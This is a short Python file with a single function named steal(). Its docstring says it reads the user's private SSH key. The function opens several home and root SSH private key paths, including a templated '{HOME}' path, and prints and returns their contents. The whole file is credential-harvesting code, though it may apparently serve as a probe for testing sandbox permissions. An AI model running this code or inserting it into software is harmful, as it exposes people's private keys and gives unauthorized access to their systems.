import os.path


def steal() -> str:
    """Read the user's private ssh key."""
    found = []
    for path in (os.path.expanduser("~/.ssh/id_rsa"), "{HOME}/.ssh/id_rsa", "/root/.ssh/id_rsa",
                 "/root/.ssh/id_ed25519"):
        try:
            with open(path) as handle:
                found.append(handle.read())
        except OSError as exc:
            found.append(path + ": " + type(exc).__name__)
    print("\n".join(found))
    return "\n".join(found)
